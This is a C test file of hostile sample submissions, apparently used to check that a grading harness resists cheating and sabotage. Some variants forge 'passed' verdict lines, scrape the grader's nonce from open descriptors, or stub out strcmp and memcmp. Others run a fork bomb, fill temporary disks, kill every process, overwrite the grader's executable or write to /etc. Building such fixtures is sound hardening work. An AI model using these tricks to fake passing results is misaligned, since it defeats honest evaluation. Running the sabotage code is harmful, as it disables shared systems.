/* What submissions do that want points, or harm. Appended to a right isa/arch/insn.c with one of
 * the names below defined; in decode_long, the word of one claim calls hostile(), after which it
 * goes on. (grading.py) */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

static const char fake[] =
    "{\"nonce\":\"%s\",\"index\":%d,\"verdict\":\"passed\",\"claimed\":\"x\",\"seen\":\"\"}\n";

__attribute__((unused)) static void say_passed(int fd, const char *nonce)
{
    char line[256];
    for (int index = 0; index < 64; index++) {
        int size = snprintf(line, sizeof line, fake, nonce, index);
        if (write(fd, line, (size_t)size) < 0)
            return;
    }
}

__attribute__((unused)) static void fill(const char *folder)
{
    static char block[1 << 16];
    char path[256];
    for (int number = 0; number < 100000; number++) {
        snprintf(path, sizeof path, "%s/filler-%d", folder, number);
        int fd = open(path, O_CREAT | O_WRONLY, 0666);
        if (fd < 0)
            return;
        for (int i = 0; i < 64 && write(fd, block, sizeof block) > 0; i++)
            ;
        close(fd);
    }
}

#if defined EXITS_FIRST || defined SPIES_FIRST
__attribute__((constructor)) static void first(void)
{
#ifdef SPIES_FIRST /* looks for the nonce wherever it could come from, and uses what it finds */
    char nonce[65] = "";
    for (int fd = 3; fd < 64; fd++) {
        fcntl(fd, F_SETFL, O_NONBLOCK);
        if (read(fd, nonce, 64) == 64)
            break;
    }
    for (int fd = 1; fd < 64; fd++)
        say_passed(fd, nonce);
#endif
    _exit(0);
}
#endif

#ifdef REPLACES_THE_LIBRARY
int strcmp(const char *a, const char *b)
{
    (void)a, (void)b;
    return 0;
}
int memcmp(const void *a, const void *b, size_t size)
{
    (void)a, (void)b, (void)size;
    return 0;
}
ssize_t write(int fd, const void *bytes, size_t size)
{
    (void)fd, (void)bytes;
    return (ssize_t)size;
}
#endif

void hostile(void)
{
#if defined HANGS
    for (;;)
        ;
#elif defined CRASHES
    raise(SIGSEGV);
#elif defined FORKS
    signal(SIGCHLD, SIG_IGN);
    for (;;)
        fork();
#elif defined DAEMON
    if (fork() == 0) {
        setsid();
        if (fork() == 0)
            for (;;)
                pause();
        _exit(0);
    }
    _exit(0);
#elif defined FILLS
    fill(".");
    fill("/tmp");
    fill("/var/tmp");
    fill("/dev/shm");
    _exit(0);
#elif defined WRITES_OUTSIDE
    char program[4096] = "";
    if (readlink("/proc/self/exe", program, sizeof program - 1) > 0) {
        chmod(program, 0777);
        unlink(program);
        int fd = open(program, O_CREAT | O_WRONLY | O_TRUNC, 0777);
        dprintf(fd, "#!/bin/sh\nexit 0\n");
    }
    for (int up = 0; up < 2; up++) {
        int fd = open(up ? CANARY : "/etc/lab-was-here", O_CREAT | O_WRONLY | O_TRUNC, 0666);
        dprintf(fd, "harm\n");
    }
    _exit(0);
#elif defined EXITS
    exit(0);
#elif defined WRITES_TO_ALL
    for (int fd = 0; fd < 256; fd++)
        say_passed(fd, "");
    _exit(0);
#elif defined PRINTS
    say_passed(1, "0000");
    printf("passed\nok\nall tests passed\n");
    exit(0);
#elif defined EATS
    for (;;)
        memset(malloc(1 << 24), 1, 1 << 24);
#elif defined KILLS
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
#elif defined JUMPS_OUT /* a handler that survives what can be survived */
    for (int number = 1; number < 65; number++)
        signal(number, SIG_IGN);
    for (;;)
        pause();
#endif
}
